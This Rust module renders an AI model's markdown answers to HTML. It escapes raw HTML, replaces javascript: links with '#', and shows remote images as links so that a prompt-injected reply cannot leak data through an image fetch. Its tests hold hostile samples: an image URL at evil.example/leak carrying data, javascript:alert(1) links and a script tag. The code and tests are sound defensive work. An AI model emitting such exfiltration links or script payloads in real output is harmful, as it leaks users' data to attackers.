//! Assistant messages are markdown. Rendered to HTML with pulldown-cmark; raw HTML in the
//! text is shown as text (never interpreted), and links get `rel="noopener noreferrer"`, so a
//! model's answer cannot inject markup or scripts into the page.
//!
//! Images from elsewhere are shown as links, never loaded: a prompt-injected reply could
//! otherwise leak what it read through the address of an image the page fetches by itself.
//! Only Easel's own images (`/api/images/…`) and inline `data:` pictures are shown.

use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};

pub fn to_html(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    // Whether each open image is shown (ours) or turned into a link (anyone else's).
    let mut open_images: Vec<bool> = Vec::new();
    let events = Parser::new_ext(text, options).map(|event| match event {
        // Raw HTML becomes visible text.
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => {
            let own = own_image(&dest_url);
            open_images.push(own);
            if own {
                Event::Start(Tag::Image {
                    link_type,
                    dest_url,
                    title,
                    id,
                })
            } else {
                Event::Start(Tag::Link {
                    link_type,
                    dest_url: safe_url(dest_url),
                    title,
                    id,
                })
            }
        }
        Event::End(TagEnd::Image) => {
            if open_images.pop().unwrap_or(true) {
                Event::End(TagEnd::Image)
            } else {
                Event::End(TagEnd::Link)
            }
        }
        other => other,
    });
    let mut out = String::with_capacity(text.len() * 2);
    html::push_html(&mut out, events);
    out.replace(
        "<a href=",
        "<a target=\"_blank\" rel=\"noopener noreferrer\" href=",
    )
}

/// Easel's own images and inline pictures may be shown; nothing is fetched from elsewhere.
fn own_image(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    lower.starts_with("/api/images/") || lower.starts_with("data:image/")
}

/// Only web, mail and relative links; `javascript:` and friends become `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim().to_ascii_lowercase();
    let allowed = lower.starts_with("http://")
        || lower.starts_with("https://")
        || lower.starts_with("mailto:")
        || lower.starts_with('/')
        || lower.starts_with('#')
        || !lower.contains(':');
    if allowed {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn renders_code_lists_and_links_safely() {
        let html = to_html("**bold**\n\n- a\n- b\n\n```rust\nfn x() {}\n```\n\n[site](https://example.com) [bad](javascript:alert(1))");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<li>a</li>"));
        assert!(html.contains("<code class=\"language-rust\">"));
        assert!(html.contains("rel=\"noopener noreferrer\" href=\"https://example.com\""));
        assert!(html.contains("href=\"#\""));
    }

    #[test]
    fn remote_images_become_links_and_ours_stay_images() {
        let html =
            to_html("![secret](https://evil.example/leak?d=abc) and ![ours](/api/images/x.png)");
        assert!(!html.contains("<img src=\"https://evil.example"), "{html}");
        assert!(
            html.contains("href=\"https://evil.example/leak?d=abc\">secret</a>"),
            "{html}"
        );
        assert!(
            html.contains("<img src=\"/api/images/x.png\" alt=\"ours\""),
            "{html}"
        );
        let html = to_html("![x](//evil.example/a.png) ![y](javascript:alert(1))");
        assert!(!html.contains("<img"), "{html}");
    }

    #[test]
    fn raw_html_is_escaped() {
        let html = to_html("<script>alert(1)</script> <b>x</b>");
        assert!(!html.contains("<script>"));
        assert!(html.contains("&lt;script&gt;"));
    }
}
